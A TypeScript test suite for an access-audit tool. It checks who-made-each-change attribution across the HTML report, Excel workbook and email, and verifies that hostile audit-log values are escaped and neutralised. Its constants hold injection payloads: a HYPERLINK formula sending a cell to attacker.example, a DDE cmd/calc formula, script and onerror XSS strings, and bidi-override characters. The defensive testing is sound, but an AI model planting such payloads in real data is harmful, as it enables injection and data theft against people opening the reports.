/**
 * Who made each change, in the HTML report, the workbook and the change email: an organization
 * crawled twice over HTTP from the simulator into a real DuckDB file, with changes made between
 * the crawls whose attribution is known (a manual group's membership: not in the audit log; a
 * SCIM group's membership: by SCIM; role grants: unattributed, as the simulator does not serve
 * the audit log yet and every sync after a crawl fails with a 404, recorded as a gap). The email
 * goes through a real SMTP server on loopback and is parsed back; the HTML is opened in Chromium,
 * on screen and for print. A copy of the database gets an audit log written through the store's
 * own sync writer with a hostile actor and a hostile failure reason, which must come out escaped,
 * revealed and neutralised. Nothing of ours is mocked.
 */
import { copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import ExcelJS from "exceljs";
import Handlebars from "handlebars";
import { type ParsedMail, simpleParser } from "mailparser";
import type { Browser, Page } from "playwright-core";
import { SMTPServer } from "smtp-server";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { AttributionStatus } from "../src/analysis/attribution.js";
import type { AuditLog } from "../src/api/index.js";
import { renderChangeReportEmail, sendChangeReport } from "../src/deliver/email.js";
import { changeReportEmail } from "../src/deliver/report-email.js";
import { revealInvisible } from "../src/render/index.js";
import { renderHtml } from "../src/report/html.js";
import { buildReportModel, type ReportChange, type ReportModel } from "../src/report/model.js";
import { writeWorkbook } from "../src/report/xlsx.js";
import { type RunningSimulator, startSimulator } from "../src/simulator/index.js";
import { Store } from "../src/store/index.js";
import { crawlInto, NO_CREDENTIALS, roleId } from "./support/analysis-org.js";
import { hasChromium, launchChromium } from "./support/browser.js";

/** What a value looks like in the HTML: invisible characters revealed, then HTML-escaped. */
const rendered = (value: string): string => Handlebars.escapeExpression(revealInvisible(value));

/** The ids of what the cases make, filled before the first crawl. */
interface Made {
  manualGroup: string;
  scimGroup: string;
  adminGroup: string;
  joiner: string;
  scimJoiner: string;
  scimLeaver: string;
  grantee: string;
  ownerRole: string;
  adminRole: string;
  usageRole: string;
}

/** One change made between the crawls, and what every report must say about who made it. */
interface Case {
  name: string;
  /** Makes the change on the simulator (between the two crawls). */
  make: (sim: RunningSimulator, m: Made) => void;
  /** Finds the change in the report model. */
  find: (c: ReportChange, m: Made) => boolean;
  status: AttributionStatus;
  /** The Actor column. */
  label: string | RegExp;
  /** The reason shown under it. */
  reason: RegExp | null;
  /** What the changes are grouped by. */
  madeBy: string;
  elevated: boolean;
}

/** The reason of a change an event was expected for, while the audit log has a gap. */
const GAP_REASON =
  /^the audit log held does not cover \S+ to \S+ \(failed sync: the audit log could not be read: 404 /;

/**
 * TODO(report.attribution.test.ts, "every change carries the attribution its case expects"):
 * once the simulator serves the audit log, add the `attributed` case here: e.g. a role granted
 * through the simulator's API by a session, expected as status "attributed", label
 * /^by \S+ \(user_\w+\) from \S+ at / and madeBy the person; the audit log then covers the
 * interval, so GAP_REASON (and the gap expectations in "audit log" below) become the covered
 * wording ("no matching event in the audit log, which covers this interval…").
 */
const CASES: Case[] = [
  {
    name: "a manual group's new member: not in the audit log",
    make: (sim, m) => sim.state.addMember(m.manualGroup, m.joiner),
    find: (c, m) =>
      c.kind === "member_added" && c.group_id === m.manualGroup && c.user_id === m.joiner,
    status: "not_logged",
    label: "not in the audit log",
    reason:
      /^the API logs no organization-level event when a member is added to or removed from a group$/,
    madeBy: "not in the audit log",
    elevated: false,
  },
  {
    name: "a SCIM group's new member: by SCIM",
    make: (sim, m) => sim.state.addMember(m.scimGroup, m.scimJoiner),
    find: (c, m) =>
      c.kind === "member_added" && c.group_id === m.scimGroup && c.user_id === m.scimJoiner,
    status: "scim",
    label: "by SCIM",
    reason: /the directory manages this through SCIM/,
    madeBy: "SCIM",
    elevated: false,
  },
  {
    name: "a SCIM group's member removed: by SCIM",
    make: (sim, m) => sim.state.removeMember(m.scimGroup, m.scimLeaver),
    find: (c, m) =>
      c.kind === "member_removed" && c.group_id === m.scimGroup && c.user_id === m.scimLeaver,
    status: "scim",
    label: "by SCIM",
    reason: /the directory manages this through SCIM/,
    madeBy: "SCIM",
    elevated: false,
  },
  {
    name: "Owner granted to a manual group: elevated and unattributed",
    make: (sim, m) => sim.state.assignGroupRole(m.adminGroup, m.ownerRole),
    find: (c, m) =>
      c.kind === "group_role_granted" && c.group_id === m.adminGroup && c.role_id === m.ownerRole,
    status: "unattributed",
    label: "unattributed",
    reason: GAP_REASON,
    madeBy: "unattributed",
    elevated: true,
  },
  {
    name: "an elevated custom role granted to a user directly: elevated and unattributed",
    make: (sim, m) => sim.state.assignUserRole(m.grantee, m.adminRole),
    find: (c, m) =>
      c.kind === "user_role_granted" && c.user_id === m.grantee && c.role_id === m.adminRole,
    status: "unattributed",
    label: "unattributed",
    reason: GAP_REASON,
    madeBy: "unattributed",
    elevated: true,
  },
  {
    name: "a read-only role granted to a user directly: unattributed, not elevated",
    make: (sim, m) => sim.state.assignUserRole(m.grantee, m.usageRole),
    find: (c, m) =>
      c.kind === "user_role_granted" && c.user_id === m.grantee && c.role_id === m.usageRole,
    status: "unattributed",
    label: "unattributed",
    reason: GAP_REASON,
    madeBy: "unattributed",
    elevated: false,
  },
];

/** The number of elevated changes nobody can account for, from the cases. */
const UNACCOUNTED = CASES.filter((c) => c.elevated && c.status === "unattributed").length;

/** The hostile actor and failure reason written into the copy's audit log. */
const HOSTILE_EMAIL = `=HYPERLINK("http://attacker.example/?x="&A1,"x")<script>alert('actor')</script>\u202Eexe@evil.example`;
const HOSTILE_USER_ID = `user_"><img src=x onerror=alert(5)>`;
const HOSTILE_IP = "203.0.113.7\u200B<b>bold</b>";
const HOSTILE_REASON = `=cmd|' /C calc'!A0 <script>alert('reason')</script> \u202Edaer\u202C`;

interface Org {
  sim: RunningSimulator;
  dir: string;
  dbPath: string;
  first: number;
  second: number;
  made: Made;
}

async function crawlOrganization(): Promise<Org> {
  const dir = mkdtempSync(join(tmpdir(), "access-audit-attribution-"));
  const dbPath = join(dir, "attribution.duckdb");
  const sim = await startSimulator({
    port: 0,
    seed: 31,
    groups: 4,
    users: 30,
    projects: 1,
    projectCustomRoles: 0,
    ...NO_CREDENTIALS,
  });
  const s = sim.state;
  const user = (name: string) => s.createUser({ name, email: `${name}@corp.example` }).id;
  const made: Made = {
    manualGroup: s.createGroup("Finance readers", { isScimManaged: false }).id,
    scimGroup: s.createGroup("Directory engineers", { isScimManaged: true }).id,
    adminGroup: s.createGroup("Break-glass admins", { isScimManaged: false }).id,
    joiner: user("joiner"),
    scimJoiner: user("scim-joiner"),
    scimLeaver: user("scim-leaver"),
    grantee: user("grantee"),
    ownerRole: s.ownerRoleId,
    adminRole: roleId(sim, "Project Administrator"),
    usageRole: roleId(sim, "Usage Viewer"),
  };
  s.addMember(made.scimGroup, made.scimLeaver);
  s.addMember(made.adminGroup, user("admin-member"));
  const first = await crawlInto(sim, dbPath);
  for (const c of CASES) c.make(sim, made);
  const second = await crawlInto(sim, dbPath);
  return { sim, dir, dbPath, first, second, made };
}

async function modelOf(path: string): Promise<ReportModel> {
  const store = await Store.open(path, { readOnly: true });
  try {
    return await buildReportModel(store, { toolVersion: "9.9.9-test", templateVersion: "t-test" });
  } finally {
    await store.close();
  }
}

async function workbookOf(dbPath: string, file: string): Promise<ExcelJS.Workbook> {
  const store = await Store.open(dbPath, { readOnly: true });
  try {
    const model = await buildReportModel(store, {
      toolVersion: "9.9.9-test",
      templateVersion: "t-test",
    });
    await writeWorkbook(store, model, file);
  } finally {
    await store.close();
  }
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(file);
  return workbook;
}

/** Data rows as objects keyed by the header row. */
function rowsOf(workbook: ExcelJS.Workbook, name: string): Record<string, ExcelJS.CellValue>[] {
  const sheet = workbook.getWorksheet(name);
  if (!sheet) throw new Error(`no sheet ${name}`);
  const header = (sheet.getRow(1).values as ExcelJS.CellValue[]).slice(1).map(String);
  const rows: Record<string, ExcelJS.CellValue>[] = [];
  sheet.eachRow((row, number) => {
    if (number === 1) return;
    const record: Record<string, ExcelJS.CellValue> = {};
    header.forEach((h, i) => {
      record[h] = row.getCell(i + 1).value;
    });
    rows.push(record);
  });
  return rows;
}

/** The HTML between an element's opening tag (found by id) and the next `</tag>`. */
function elementHtml(html: string, tag: string, id: string): string {
  const open = html.indexOf(` id="${id}"`);
  if (open < 0) throw new Error(`no element #${id}`);
  const from = html.lastIndexOf(`<${tag}`, open);
  const end = html.indexOf(`</${tag}>`, open);
  return html.slice(from, end + tag.length + 3);
}

/**
 * Writes a complete sync to `path` (through the store's sync writer) that covers only the first
 * half second of the interval and holds one event: the Owner grant to `groupId`, made in a session
 * by a hostile actor; then a failed sync with a hostile reason, so the rest is a gap.
 */
async function writeHostileAuditLog(
  path: string,
  window: { from: string; to: string },
  groupId: string,
  snapshotId: number,
): Promise<void> {
  const from = Date.parse(window.from) / 1000;
  const meta = (startedAtMs: number) => ({
    baseUrl: "http://127.0.0.1:1/v1",
    keyRedacted: "sk-admin...test",
    toolVersion: "test",
    snapshotId,
    startedAtMs,
  });
  const event = {
    id: "audit_log-hostile-1",
    type: "role.assignment.created",
    effective_at: from,
    actor: {
      type: "session",
      session: { user: { id: HOSTILE_USER_ID, email: HOSTILE_EMAIL }, ip_address: HOSTILE_IP },
    },
    "role.assignment.created": {
      id: "ra_hostile",
      principal_id: groupId,
      principal_type: "group",
      resource_id: "org_sim",
      resource_type: "api.organization",
    },
  } as AuditLog;
  const store = await Store.open(path);
  try {
    await store.auditSync(meta(from * 1000 + 500), async (writer) => {
      await writer.add([event]);
      return writer.complete({ readFrom: null, coverageFrom: from, requests: 1 });
    });
    await store.auditSync(meta(from * 1000 + 600), (writer) => writer.fail(HOSTILE_REASON, 1));
  } finally {
    await store.close();
  }
}

/** A plain SMTP server on loopback (no TLS, no AUTH), keeping what it receives. */
async function startSmtp(): Promise<{
  port: number;
  received: ParsedMail[];
  stop(): Promise<void>;
}> {
  const received: ParsedMail[] = [];
  const server = new SMTPServer({
    secure: false,
    authOptional: true,
    disabledCommands: ["STARTTLS", "AUTH"],
    logger: false,
    onData(stream, _session, callback) {
      simpleParser(stream).then(
        (mail) => {
          received.push(mail);
          callback(null);
        },
        (err: Error) => callback(err),
      );
    },
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const address = server.server.address();
  return {
    port: typeof address === "object" && address ? address.port : 0,
    received,
    stop: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

describe("who made each change, in the reports and the change email", () => {
  let org: Org;
  let model: ReportModel;
  let html: string;
  let workbook: ExcelJS.Workbook;
  let hostilePath: string;
  let hostile: ReportModel;
  let hostileHtml: string;
  let hostileWorkbook: ExcelJS.Workbook;
  let browser: Browser | undefined;

  const change = (m: ReportModel, c: Case): { change: ReportChange; index: number } => {
    const index = m.changes.findIndex((x) => c.find(x, org.made));
    const found = m.changes[index];
    if (found === undefined) throw new Error(`no change for case: ${c.name}`);
    return { change: found, index };
  };
  const ownerGrant = CASES[3] as Case;

  beforeAll(async () => {
    org = await crawlOrganization();
    model = await modelOf(org.dbPath);
    html = renderHtml(model);
    workbook = await workbookOf(org.dbPath, join(org.dir, "report.xlsx"));
    hostilePath = join(org.dir, "hostile.duckdb");
    copyFileSync(org.dbPath, hostilePath);
    const window = model.audit_log?.window;
    if (!window) throw new Error("no audit-log window");
    await writeHostileAuditLog(hostilePath, window, org.made.adminGroup, org.second);
    hostile = await modelOf(hostilePath);
    hostileHtml = renderHtml(hostile);
    hostileWorkbook = await workbookOf(hostilePath, join(org.dir, "hostile.xlsx"));
    // REPORT_HTML_OUT keeps the reports somewhere to look at.
    const out = process.env.REPORT_HTML_OUT;
    if (out !== undefined) {
      writeFileSync(join(out, "attribution.html"), html);
      writeFileSync(join(out, "attribution-hostile.html"), hostileHtml);
    }
    if (hasChromium) browser = await launchChromium();
  }, 240_000);
  afterAll(async () => {
    await browser?.close();
    await org?.sim.stop();
    if (org) rmSync(org.dir, { recursive: true, force: true });
  });

  it("every change carries the attribution its case expects", () => {
    for (const c of CASES) {
      const { change: found } = change(model, c);
      const a = found.attribution;
      expect(a.status, c.name).toBe(c.status);
      if (typeof c.label === "string") expect(a.label, c.name).toBe(c.label);
      else expect(a.label, c.name).toMatch(c.label);
      if (c.reason === null) expect(a.reason, c.name).toBeNull();
      else expect(a.reason, c.name).toMatch(c.reason);
      expect(a.made_by, c.name).toBe(c.madeBy);
      expect(found.elevated, c.name).toBe(c.elevated);
      expect(a.event_ids, c.name).toEqual([]);
      expect(a.event_time, c.name).toBeNull();
    }
    // Every change has an attribution; the totals and the by-actor counts add up.
    const t = model.attribution_totals;
    expect(t.attributed + t.scim + t.not_logged + t.unattributed).toBe(model.changes.length);
    expect(t.unattributed_elevated).toBe(UNACCOUNTED);
    expect(model.changes_by_actor.reduce((n, a) => n + a.changes, 0)).toBe(model.changes.length);
  });

  it("audit log: the interval is not covered, and each failed sync says why", () => {
    const a = model.audit_log;
    expect(a).not.toBeNull();
    expect(a?.covered).toBe(false);
    expect(a?.syncs).toBe(2);
    expect(a?.gaps).toEqual([a?.window]);
    expect(a?.failed_syncs.map((s) => s.reason)).toEqual([
      expect.stringMatching(/^the audit log could not be read: 404 /),
      expect.stringMatching(/^the audit log could not be read: 404 /),
    ]);
    expect(model.audit_log_note).toMatch(
      /^The audit log held covers none of the interval of the changes, from \S+ to \S+: /,
    );
    // Where a complete sync covers part of it, the note names the rest.
    expect(hostile.audit_log_note).toMatch(
      /^The audit log held does not cover \S+ to \S+ of the interval of the changes \(from /,
    );
    expect(model.audit_log_note).toContain("Sync 2 (started ");
    // Which audit log the attributions were read from: the head of its chain.
    expect(model.audit_log_head).toEqual({
      sync_id: 2,
      seal: expect.stringMatching(/^[0-9a-f]{64}$/),
    });
    expect(hostile.audit_log_head?.sync_id).toBe(4);
    for (const [m, text] of [
      [model, html],
      [hostile, hostileHtml],
    ] as const) {
      const head = `Sync ${m.audit_log_head?.sync_id}, seal ${m.audit_log_head?.seal}`;
      expect(text).toContain(`<code class="seal">${head}</code>`);
      expect(text).toContain(`Read from the audit log held up to s${head.slice(1)}`);
    }
    const seals = rowsOf(hostileWorkbook, "Summary").find((r) => r.item === "Audit log head");
    expect(seals).toMatchObject({ section: "Seals", value: hostile.audit_log_head?.seal });
  });

  it("groups changes by actor: unattributed first, then SCIM, then what the log does not record", () => {
    const count = (status: AttributionStatus, elevated = false) =>
      model.changes.filter((c) => c.attribution.status === status && (!elevated || c.elevated))
        .length;
    expect(model.changes_by_actor).toEqual([
      {
        made_by: "unattributed",
        status: "unattributed",
        changes: count("unattributed"),
        elevated: UNACCOUNTED,
      },
      { made_by: "SCIM", status: "scim", changes: count("scim"), elevated: 0 },
      {
        made_by: "not in the audit log",
        status: "not_logged",
        changes: count("not_logged"),
        elevated: count("not_logged", true),
      },
    ]);
  });

  it("HTML: the summary opens with the elevated changes nobody can account for", () => {
    const summary = elementHtml(html, "section", "summary");
    const box = summary.indexOf('id="unaccounted"');
    expect(box).toBeGreaterThan(0);
    expect(box).toBeLessThan(summary.indexOf('class="lede"'));
    expect(summary).toContain(`Elevated changes nobody can account for (${UNACCOUNTED})`);
    expect(summary).toContain('class="unaccounted has-unaccounted"');
    for (const c of CASES.filter((x) => x.elevated && x.status === "unattributed")) {
      const { index } = change(model, c);
      expect(summary, c.name).toContain(`href="#change-${index + 1}"`);
    }
    // A not-elevated unattributed change is not among them.
    const { index: usage } = change(model, CASES[5] as Case);
    expect(summary).not.toContain(`href="#change-${usage + 1}"`);
    expect(summary).toContain(
      `${model.attribution_totals.unattributed} unattributed, ${UNACCOUNTED} of them elevated.`,
    );
  });

  it("HTML: the change section states the audit-log coverage and the changes by actor", () => {
    const section = elementHtml(html, "section", "changes");
    const coverage = elementHtml(section, "div", "audit-log-coverage");
    expect(coverage).toContain("has-gaps");
    expect(coverage).toContain(rendered(model.audit_log_note?.split(" Sync 1")[0] ?? "?"));
    for (const s of model.audit_log?.failed_syncs ?? []) {
      expect(coverage).toContain(rendered(`sync ${s.sync_id} (started ${s.started_at}) failed: `));
      expect(coverage).toContain(rendered(s.reason ?? "?"));
    }
    const byActor = elementHtml(section, "table", "changes-by-actor");
    const rows = [...byActor.matchAll(/<tr class="attr-(\w+)">(.*?)<\/tr>/g)].map((m) => [
      m[1],
      (m[2] ?? "").replace(/<[^>]+>/g, "|").replace(/\|+/g, "|"),
    ]);
    expect(rows).toEqual(
      model.changes_by_actor.map((a) => [
        a.status,
        `|${{ unattributed: "Unattributed: nobody can be named", scim: "SCIM", not_logged: "Not in the audit log", attributed: a.made_by }[a.status]}|${{ unattributed: "Unattributed", scim: "SCIM", not_logged: "Not in the audit log", attributed: "Attributed" }[a.status]}|${a.changes}|${a.elevated}|`,
      ]),
    );
    // The table lists every change once, grouped by actor in the by-actor order.
    const table = elementHtml(section, "table", "changes-table");
    const order = [...table.matchAll(/<td class="actor attr-(\w+)" data-sort="(\d+)">/g)].map((m) =>
      Number(m[2]),
    );
    expect(order).toHaveLength(model.changes.length);
    expect(order).toEqual([...order].sort((a, b) => a - b));
    // Each case's row: the label, its reason as text (not a tooltip), elevated marked.
    for (const c of CASES) {
      const { change: found, index } = change(model, c);
      const row = elementHtml(table, "tr", `change-${index + 1}`);
      expect(row, c.name).toContain(
        `<span class="actor-label">${rendered(found.attribution.label)}</span>`,
      );
      expect(row, c.name).toContain(
        `<span class="actor-reason">${rendered(found.attribution.reason ?? "?")}</span>`,
      );
      expect(row.includes('<span class="badge elevated">Elevated</span>'), c.name).toBe(c.elevated);
      expect(row, c.name).not.toMatch(/title="/);
    }
  });

  it("workbook: Actor, Attribution, Event time, Event ids and Reason on every change", () => {
    const rows = rowsOf(workbook, "Changes");
    expect(rows).toHaveLength(model.changes.length);
    for (const c of CASES) {
      const { change: found, index } = change(model, c);
      expect(rows[index], c.name).toMatchObject({
        kind: found.kind,
        actor: found.attribution.label,
        attribution: c.status,
        made_by: c.madeBy,
        event_time: null,
        event_ids: null,
        reason: found.attribution.reason,
        elevated: c.elevated,
      });
    }
    expect(rowsOf(workbook, "Changes by actor")).toEqual(
      model.changes_by_actor.map((a) => ({
        made_by: a.made_by,
        attribution: a.status,
        changes: a.changes,
        elevated_changes: a.elevated,
      })),
    );
    const summary = rowsOf(workbook, "Summary").filter((r) => r.section === "Attribution");
    const item = (name: string) => summary.find((r) => r.item === name);
    expect(item("Audit log")).toMatchObject({
      value: "does not cover the interval",
      detail: expect.stringMatching(/^The audit log held covers none of the interval /),
    });
    expect(item("Unattributed elevated changes")?.value).toBe(UNACCOUNTED);
    expect(item("Unattributed changes")?.value).toBe(model.attribution_totals.unattributed);
    expect(item("Failed sync 2")?.detail).toMatch(/^the audit log could not be read: 404 /);
    expect(item("Failed sync 2")?.value).toBeInstanceOf(Date);
  });

  it("email over SMTP: the actor of every listed change, the unattributed count, the coverage", async () => {
    const smtp = await startSmtp();
    try {
      const result = await sendChangeReport(changeReportEmail(model, []), {
        smtp: { host: "127.0.0.1", port: smtp.port, security: "none", timeoutMs: 5000 },
        from: "audit@corp.example",
        to: ["security@corp.example"],
        policy: "always",
        minSeverity: "high",
        maxChangesInBody: 1000,
      });
      expect(result.status).toBe("sent");
      const mail = smtp.received[0];
      if (!mail) throw new Error("nothing received");
      const text = mail.text ?? "";
      const body = typeof mail.html === "string" ? mail.html : "";
      const t = model.attribution_totals;
      const line = `${t.unattributed} changes are unattributed, ${UNACCOUNTED} of them elevated`;
      expect(text).toContain(`Who made them: ${line}.`);
      expect(body).toContain(`Who made them: ${line}.`);
      expect(text).toContain(`!! ${UNACCOUNTED} elevated changes nobody can account for`);
      expect(body).toContain(`${UNACCOUNTED} elevated changes nobody can account for`);
      const note = model.audit_log_note ?? "?";
      expect(text.replace(/\s+/g, " ")).toContain(note.replace(/\s+/g, " "));
      expect(body).toContain(rendered(note));
      // Every change is listed with its actor; the unaccounted elevated ones first.
      const listed = [...text.matchAll(/^- \[(\w+)\]( \[elevated\])? .*\n {4}actor: (.*)$/gm)];
      expect(listed).toHaveLength(model.changes.length);
      expect(listed.slice(0, UNACCOUNTED).map((m) => [m[2], m[3]])).toEqual(
        Array.from({ length: UNACCOUNTED }, () => [" [elevated]", "unattributed"]),
      );
      for (const c of CASES) {
        const { change: found } = change(model, c);
        expect(text, c.name).toContain(`    actor: ${found.attribution.label}\n`);
        expect(body, c.name).toContain(
          `Actor: ${rendered(found.attribution.label)} &middot; ${rendered(found.attribution.reason ?? "?")}`,
        );
      }
    } finally {
      await smtp.stop();
    }
  });

  it("an event in the audit log attributes the change and takes it off the unaccounted list", () => {
    const { change: found } = change(hostile, ownerGrant);
    const a = found.attribution;
    expect(a.status).toBe("attributed");
    expect(a.label).toBe(
      `by ${HOSTILE_EMAIL} (${HOSTILE_USER_ID}) from ${HOSTILE_IP} at ${a.event_time}`,
    );
    expect(a.made_by).toBe(`${HOSTILE_EMAIL} (${HOSTILE_USER_ID})`);
    expect(a.event_ids).toEqual(["audit_log-hostile-1"]);
    expect(a.reason).toBeNull();
    expect(hostile.attribution_totals.unattributed_elevated).toBe(UNACCOUNTED - 1);
    expect(hostile.changes_by_actor.map((x) => x.status)).toEqual([
      "unattributed",
      "attributed",
      "scim",
      "not_logged",
    ]);
    // The rest of the interval is a gap, and the latest failed sync's reason is the one given.
    expect(hostile.audit_log?.covered).toBe(false);
    const { change: other } = change(hostile, CASES[4] as Case);
    expect(other.attribution.reason).toContain(`(failed sync: ${HOSTILE_REASON})`);
  });

  it("hostile actor and reason: escaped and revealed in HTML, neutralised in the workbook", () => {
    const { change: found, index } = change(hostile, ownerGrant);
    const row = elementHtml(hostileHtml, "tr", `change-${index + 1}`);
    expect(row).toContain(`<span class="actor-label">${rendered(found.attribution.label)}</span>`);
    expect(row).toContain("[U+202E]exe@evil.example");
    expect(row).toContain('<span class="actor-events">Event audit_log-hostile-1</span>');
    expect(hostileHtml).toContain(rendered(HOSTILE_REASON));
    expect(hostileHtml).toContain("[U+202E]daer[U+202C]");
    for (const raw of [
      "<script>alert('actor')",
      "<script>alert('reason')",
      "<img src=x onerror",
      "<b>bold</b>",
      "\u202E",
      "\u200B",
    ]) {
      expect(hostileHtml).not.toContain(raw);
    }
    expect(hostileHtml.match(/<script\b/g)).toHaveLength(2);

    const changes = rowsOf(hostileWorkbook, "Changes");
    // made_by starts with "=": a leading ' keeps it text; the label starts with "by".
    expect(changes[index]).toMatchObject({
      actor: revealInvisible(found.attribution.label),
      attribution: "attributed",
      made_by: `'${revealInvisible(found.attribution.made_by)}`,
      event_ids: "audit_log-hostile-1",
      event_time: new Date(found.attribution.event_time ?? "?"),
      reason: null,
    });
    // The grant, and the access it gave the group's member (the same event explains both).
    expect(rowsOf(hostileWorkbook, "Changes by actor")).toContainEqual({
      made_by: `'${revealInvisible(found.attribution.made_by)}`,
      attribution: "attributed",
      changes: hostile.changes.filter((c) => c.attribution.made_by === found.attribution.made_by)
        .length,
      elevated_changes: 1,
    });
    const failed = rowsOf(hostileWorkbook, "Summary").find((r) => r.item === "Failed sync 4");
    expect(failed?.detail).toBe(`'${revealInvisible(HOSTILE_REASON)}`);
    // No formula anywhere in the two sheets.
    for (const name of ["Changes", "Changes by actor", "Summary"]) {
      hostileWorkbook.getWorksheet(name)?.eachRow((r) => {
        r.eachCell((cell) => {
          expect(cell.formula, name).toBeUndefined();
        });
      });
    }
  });

  it("hostile actor and reason: escaped in the email's HTML, revealed and literal in its text", async () => {
    const out = await renderChangeReportEmail(changeReportEmail(hostile, []), {
      minSeverity: "high",
      maxChangesInBody: 1000,
    });
    const { change: found } = change(hostile, ownerGrant);
    const label = revealInvisible(found.attribution.label);
    expect(out.text).toContain(`    actor: ${label}\n`);
    expect(out.text).toContain(revealInvisible(HOSTILE_REASON));
    expect(out.html).toContain(`Actor: ${rendered(found.attribution.label)}`);
    for (const body of [out.html, out.text]) {
      expect(body).not.toContain("\u202E");
      expect(body).not.toContain("\u200B");
    }
    for (const raw of ["<script>alert(", "<img src=x", "<b>bold</b>"]) {
      expect(out.html).not.toContain(raw);
    }
  });

  it("is deterministic: the same database gives the same HTML, workbook and email", async () => {
    const again = await modelOf(org.dbPath);
    expect(renderHtml(again)).toBe(html);
    const one = join(org.dir, "one.xlsx");
    const two = join(org.dir, "two.xlsx");
    await workbookOf(hostilePath, one);
    await workbookOf(hostilePath, two);
    expect(readFileSync(one).equals(readFileSync(two))).toBe(true);
    const email = (m: ReportModel) =>
      renderChangeReportEmail(changeReportEmail(m, []), { minSeverity: "high" });
    expect(await email(await modelOf(hostilePath))).toEqual(await email(hostile));
  });

  const inBrowser = it.skipIf(!hasChromium);

  async function open(path: string): Promise<{ page: Page; problems: string[] }> {
    if (!browser) throw new Error("no browser");
    const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
    const problems: string[] = [];
    page.on("dialog", (dialog) => {
      problems.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on("pageerror", (error) => problems.push(`pageerror: ${error.message}`));
    page.on("console", (message) => {
      if (message.type() === "error") problems.push(`console: ${message.text()}`);
    });
    await page.goto(pathToFileURL(path).href, { waitUntil: "load" });
    return { page, problems };
  }

  inBrowser("Chromium: the actor and its reason read as text, on screen and in print", async () => {
    const path = join(org.dir, "hostile.html");
    writeFileSync(path, hostileHtml);
    const { page, problems } = await open(path);
    const { change: found, index } = change(hostile, ownerGrant);
    const actor = page.locator(`#change-${index + 1} td.actor`);
    await expect(actor.locator(".actor-label").textContent()).resolves.toBe(
      revealInvisible(found.attribution.label),
    );
    const { change: other, index: otherIndex } = change(hostile, CASES[4] as Case);
    const reason = page.locator(`#change-${otherIndex + 1} .actor-reason`);
    await expect(reason.textContent()).resolves.toBe(
      revealInvisible(other.attribution.reason ?? "?"),
    );
    expect(await reason.isVisible()).toBe(true);
    await page.emulateMedia({ media: "print" });
    expect(await reason.isVisible()).toBe(true);
    expect(await page.locator("#audit-log-coverage").isVisible()).toBe(true);
    expect(await page.locator("#unaccounted").isVisible()).toBe(true);
    await expect(page.locator("#unaccounted h3").textContent()).resolves.toBe(
      `Elevated changes nobody can account for (${UNACCOUNTED - 1})`,
    );
    const injected = await page.evaluate(`({
      handlers: Array.from(document.querySelectorAll("*")).filter((el) =>
        Array.from(el.attributes).some((a) => a.name.toLowerCase().startsWith("on")),
      ).length,
      images: document.querySelectorAll("img").length,
      scripts: document.scripts.length,
      bold: document.querySelectorAll("main b").length,
    })`);
    expect(injected).toEqual({ handlers: 0, images: 0, scripts: 2, bold: 0 });
    // The by-actor link turns to the actor's first change.
    await page.emulateMedia({ media: "screen" });
    await page.locator("#changes-by-actor a", { hasText: "SCIM" }).click();
    const hash = await page.evaluate("window.location.hash");
    expect(hash).toMatch(/^#change-\d+$/);
    expect(await page.locator(String(hash)).isVisible()).toBe(true);
    expect(problems).toEqual([]);
    await page.pdf({ path: join(org.dir, "hostile.pdf") });
    await page.close();
  });
});
